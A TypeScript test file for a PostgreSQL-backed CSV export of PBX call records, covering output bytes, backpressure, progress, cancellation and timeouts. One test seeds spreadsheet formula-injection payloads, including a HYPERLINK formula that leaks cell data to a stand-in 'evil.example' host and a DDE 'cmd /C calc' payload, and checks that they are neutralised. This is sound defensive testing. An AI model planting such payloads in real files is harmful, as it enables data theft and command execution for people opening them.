// The CSV export against a real PostgreSQL 15, which writes the records
// (COPY): byte-identical to the CSV the csv-stringify export wrote (golden file
// from the fixture range) except for formula cells, which get a `'` in front;
// the same bytes as csv-text.ts for any values; at any chunk size and through
// a slow destination; progress for the desktop export; the COPY stopped and
// the connection returned when the destination goes away, the export is
// aborted or the database stalls.
import { readFile } from 'node:fs/promises';
import { PassThrough, Writable } from 'node:stream';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CDR_CSV_COLUMNS, exportCdrCsv, type CsvProgress } from '../../../relay/call-records/cdr-csv-export.js';
import { csvRecords } from '../../../relay/call-records/csv-text.js';
import { CDR_FIELDS } from '../../../relay/pbx/cdr-columns.js';
import { cdrTestRepositories } from './cdr-test-repositories.js';
import { seedCdr } from '../../../relay/sim/cdr-seed.js';
import { parseCsv } from '../../support/parse-csv.js';
import { createScratchDatabase, withClient, type ScratchDatabase } from '../../support/test-postgres.js';
import { EXPORT_FIXTURE_FROM, EXPORT_FIXTURE_ROWS, EXPORT_FIXTURE_TO, seedExportFixture } from './cdr-export-fixture.js';

const FIXTURE = { from: EXPORT_FIXTURE_FROM, to: EXPORT_FIXTURE_TO };
const BIG = { from: new Date('2026-08-01T00:00:00Z'), to: new Date('2026-09-01T00:00:00Z') };
const BIG_ROWS = 2_500;
// Tens of megabytes of CSV: more than the socket buffers hold, so a COPY
// whose reader stops is still running on the server.
const HUGE = { from: new Date('2026-10-01T00:00:00Z'), to: new Date('2026-11-01T00:00:00Z') };
const HUGE_ROWS = 100_000;

/** Backends of this database running a COPY, other than the caller's. */
async function runningCopies(url: string): Promise<number> {
  return withClient(url, async (c) => {
    const r = await c.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()
         AND state = 'active' AND query LIKE 'COPY (SELECT%'`,
    );
    return r.rows[0]!.n;
  });
}

function collector(): { out: PassThrough; text: () => string } {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  return { out, text: () => Buffer.concat(chunks).toString('utf8') };
}

/** A destination with a tiny buffer that takes each chunk after a pause: write() keeps answering false. */
function slowSink(): { out: Writable; text: () => string; drains: () => number } {
  const chunks: Buffer[] = [];
  let drains = 0;
  const out = new Writable({
    highWaterMark: 1024,
    write(chunk: Buffer, _enc, done) {
      chunks.push(chunk);
      setTimeout(done, 2);
    },
  });
  out.on('drain', () => drains++);
  return { out, text: () => Buffer.concat(chunks).toString('utf8'), drains: () => drains };
}

describe('CDR CSV export', () => {
  let db: ScratchDatabase;
  let golden: string;
  const repositories = cdrTestRepositories(() => db.url);
  const repo = repositories.open;

  beforeAll(async () => {
    db = await createScratchDatabase('pbx_cdr_csv', { cdrSchema: true });
    await withClient(db.url, async (c) => {
      await seedExportFixture(c);
      await seedCdr(c, { ...BIG, count: BIG_ROWS, seed: 5, utcOffsetMinutes: 0 });
      await c.query(
        `INSERT INTO cdroutput (cdr_id, call_history_id, cdr_started_at, cdr_ended_at, source_participant_name, destination_participant_name,
                                source_participant_phone_number, termination_reason, termination_reason_details)
         SELECT gen_random_uuid(), gen_random_uuid(), $1::timestamptz + i * interval '20 seconds', $1::timestamptz + i * interval '20 seconds' + interval '1 minute',
                'Agent ' || i % 50, 'Caller ' || i, '+4930' || lpad(i::text, 8, '0'), 'dst_participant_terminated', repeat('x', 100)
         FROM generate_series(1, $2::int) AS i`,
        [HUGE.from.toISOString(), HUGE_ROWS],
      );
    });
    golden = await readFile(new URL('./fixtures/cdr-export-golden.csv', import.meta.url), 'utf8');
  });

  afterAll(async () => {
    await repositories.stopAll();
    await db?.drop();
  });

  it('writes the same bytes as the csv-stringify export did, formula cells prefixed, at any chunk size', async () => {
    expect(golden.split('\n')).toHaveLength(EXPORT_FIXTURE_ROWS + 2 + 3); // header, final LF, three quoted line breaks
    const r = repo();
    for (const chunkBytes of [1024, 7777, undefined]) {
      const { out, text } = collector();
      const ready: (number | undefined)[] = [];
      const result = await exportCdrCsv(r, FIXTURE, out, { ...(chunkBytes ? { chunkBytes } : {}), onReady: () => ready.push(chunkBytes) });
      expect(result.rows).toBe(EXPORT_FIXTURE_ROWS);
      expect(ready).toEqual([chunkBytes]);
      expect(text()).toBe(golden);
      expect(out.writableFinished).toBe(true);
    }
  });

  it('prefixes every cell a spreadsheet would run as a formula with a quote, and nothing else', async () => {
    const r = repo();
    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3', '\tTAB', '\r=1', "'already", 'a=1', ' =1', '', null];
    const range = { from: new Date('2025-01-01T00:00:00Z'), to: new Date('2025-01-02T00:00:00Z') };
    await withClient(db.url, async (c) => {
      for (const [i, cell] of cells.entries()) {
        await c.query(
          `INSERT INTO cdroutput (cdr_id, cdr_started_at, source_participant_name, destination_participant_phone_number, termination_reason_details)
           VALUES (gen_random_uuid(), $1::timestamptz + $2 * interval '1 second', $3, $3, $3)`,
          [range.from.toISOString(), i, cell],
        );
      }
    });
    const { out, text } = collector();
    await exportCdrCsv(r, range, out);
    const name = CDR_FIELDS.indexOf('source_participant_name');
    const records = parseCsv(text()).slice(1).reverse(); // newest first in the file
    expect(records.map((rec) => rec[name])).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"click")', '\'@SUM(1+1)*cmd|\' /C calc\'!A0', "'+1+cmd", "'-2+3", "'\tTAB", "'\r=1", "'already", 'a=1', ' =1', '', '',
    ]);
    for (const rec of records) {
      expect(rec[CDR_FIELDS.indexOf('destination_participant_phone_number')]).toBe(rec[name]);
      expect(rec[CDR_FIELDS.indexOf('termination_reason_details')]).toBe(rec[name]);
    }
  });

  it('writes exactly what csv-text.ts writes for the same values, whatever they hold', async () => {
    const r = repo();
    const csvChar = fc.constantFrom(',', '"', '\r', '\n', ' ', 'a', '0', ';', '\t', "'", '=', '+', '-', '@', 'é', '電', '😀');
    const value = fc.oneof(fc.constant(null), fc.constant(''), fc.string({ unit: csvChar, maxLength: 8 }), fc.string({ unit: 'grapheme', maxLength: 8 }));
    let day = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(value, value, value), { minLength: 1, maxLength: 6 }), async (rows) => {
        const from = new Date(Date.UTC(2024, 0, 1) + day++ * 86_400_000);
        const range = { from, to: new Date(from.getTime() + 86_400_000) };
        await withClient(db.url, async (c) => {
          for (const [i, [name, phone, details]] of rows.entries()) {
            await c.query(
              `INSERT INTO cdroutput (cdr_id, cdr_started_at, source_participant_name, source_participant_phone_number, termination_reason_details)
               VALUES (gen_random_uuid(), $1::timestamptz + $2 * interval '1 second', $3, $4, $5)`,
              [from.toISOString(), i, name, phone, details],
            );
          }
        });
        const { out, text } = collector();
        const result = await exportCdrCsv(r, range, out);
        expect(result.rows).toBe(rows.length);
        // The reference: the same rows as the JSON API answers them, formatted in JavaScript.
        const page = await r.page({ ...range, limit: 100 });
        const reference = csvRecords([CDR_CSV_COLUMNS], CDR_FIELDS.length) + csvRecords(page.rows.map((row) => CDR_FIELDS.map((f) => row[f])), CDR_FIELDS.length);
        expect(text()).toBe(reference);
      }),
      { numRuns: 40 },
    );
  });

  it('waits for a slow destination (backpressure) and still writes every byte', async () => {
    const r = repo();
    const sink = slowSink();
    const result = await exportCdrCsv(r, FIXTURE, sink.out, { chunkBytes: 2048 });
    expect(result.rows).toBe(EXPORT_FIXTURE_ROWS);
    expect(sink.drains()).toBeGreaterThan(0);
    expect(sink.text()).toBe(golden);
  });

  it('an empty range is the header line alone', async () => {
    const { out, text } = collector();
    const result = await exportCdrCsv(repo(), { from: new Date('2020-01-01T00:00:00Z'), to: new Date('2020-01-02T00:00:00Z') }, out);
    expect(result.rows).toBe(0);
    expect(text()).toBe(golden.slice(0, golden.indexOf('\n') + 1));
  });

  it('reports progress every thousand rows, going back through the range, and ends at 1', async () => {
    const progress: CsvProgress[] = [];
    const { out, text } = collector();
    const result = await exportCdrCsv(repo(), BIG, out, { chunkBytes: 16 * 1024, onProgress: (p) => progress.push(p) });
    expect(result.rows).toBe(BIG_ROWS);
    expect(text().split('\n')).toHaveLength(BIG_ROWS + 2);
    // Rows counted in the stream: at least a thousand apart, ending at the total.
    const counts = progress.map((p) => p.rows);
    expect(counts.length).toBeGreaterThanOrEqual(3);
    expect(counts.at(-1)).toBe(BIG_ROWS);
    expect(counts[0]).toBeGreaterThanOrEqual(1000);
    expect(counts[0]).toBeLessThan(1200);
    for (let i = 1; i < counts.length - 1; i++) expect(counts[i]! - counts[i - 1]!).toBeGreaterThanOrEqual(1000);
    const fractions = progress.map((p) => p.fraction);
    expect(fractions.at(-1)).toBe(1);
    for (let i = 1; i < fractions.length; i++) expect(fractions[i]).toBeGreaterThanOrEqual(fractions[i - 1] as number);
    // 1,000 of 2,500 rows spread over a month: well inside (0, 1).
    expect(fractions[0]).toBeGreaterThan(0.1);
    expect(fractions[0]).toBeLessThan(0.9);
  });

  it('closes the cursor and returns the connection when the destination goes away mid-export', async () => {
    const r = repo({ poolMax: 1 });
    let written = 0;
    const out = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _enc, done) {
        written += chunk.length;
        done();
        if (written > 0) out.destroy();
      },
    });
    await expect(exportCdrCsv(r, HUGE, out, { chunkBytes: 4096 })).rejects.toThrow();
    expect(written).toBeGreaterThan(0);
    expect(await runningCopies(db.url)).toBe(0);
    // poolMax 1: this would wait forever if the export still held the connection.
    expect((await r.page({ ...BIG, limit: 1 })).rows).toHaveLength(1);
  });

  it('stops the COPY on the server when the reader leaves early, and keeps the connection', async () => {
    const r = repo({ poolMax: 1 });
    let rows = 0;
    for await (const chunk of r.csvChunks(HUGE)) {
      rows += chunk.rows;
      // Let PostgreSQL fill the socket and the queue while nobody reads.
      await new Promise((res) => setTimeout(res, 200));
      break;
    }
    expect(rows).toBeGreaterThan(0);
    expect(rows).toBeLessThan(HUGE_ROWS);
    expect(await runningCopies(db.url)).toBe(0);
    expect((await r.page({ ...HUGE, limit: 1 })).rows).toHaveLength(1);
    expect(r.health().state).toBe('connected');
  });

  it('a stalled COPY fails with upstream_timeout after the statement timeout, before any byte is written, and is cancelled', async () => {
    const r = repo({ poolMax: 1, statementTimeoutMs: 300 });
    await withClient(db.url, async (locker) => {
      await locker.query('BEGIN');
      await locker.query('LOCK TABLE cdroutput IN ACCESS EXCLUSIVE MODE');
      const { out, text } = collector();
      let ready = false;
      const started = Date.now();
      await expect(exportCdrCsv(r, FIXTURE, out, { onReady: () => (ready = true) })).rejects.toMatchObject({ code: 'upstream_timeout', status: 504 });
      expect(Date.now() - started).toBeLessThan(3000);
      expect(ready).toBe(false);
      expect(text()).toBe('');
      // Nothing is left waiting for the lock.
      const waiting = await locker.query<{ n: number }>(
        "SELECT count(*)::int AS n FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND datname = current_database()",
      );
      expect(waiting.rows[0]!.n).toBe(0);
      await locker.query('ROLLBACK');
    });
    expect((await r.page({ ...FIXTURE, limit: 1 })).rows).toHaveLength(1);
  });

  it('stops on abort, destroys the half-written destination and returns the connection', async () => {
    const r = repo({ poolMax: 1 });
    const abort = new AbortController();
    const sink = slowSink();
    const exporting = exportCdrCsv(r, BIG, sink.out, {
      chunkBytes: 4096,
      signal: abort.signal,
      onProgress: (p) => {
        if (p.rows >= 1000) abort.abort(new Error('user cancelled'));
      },
    });
    await expect(exporting).rejects.toThrow();
    expect(sink.out.destroyed).toBe(true);
    expect(sink.text().split('\n').length).toBeLessThan(BIG_ROWS);
    expect((await r.page({ ...BIG, limit: 1 })).rows).toHaveLength(1);
  });

  it('a database that is down answers an error before any byte is written', async () => {
    const r = repositories.open({ config: { url: 'postgres://nobody:secret@127.0.0.1:1/none' }, connectTimeoutMs: 500 });
    const { out, text } = collector();
    let ready = false;
    await expect(exportCdrCsv(r, FIXTURE, out, { onReady: () => (ready = true) })).rejects.toMatchObject({ code: 'upstream_error' });
    expect(ready).toBe(false);
    expect(text()).toBe('');
    expect(out.destroyed).toBe(false);
  });
});
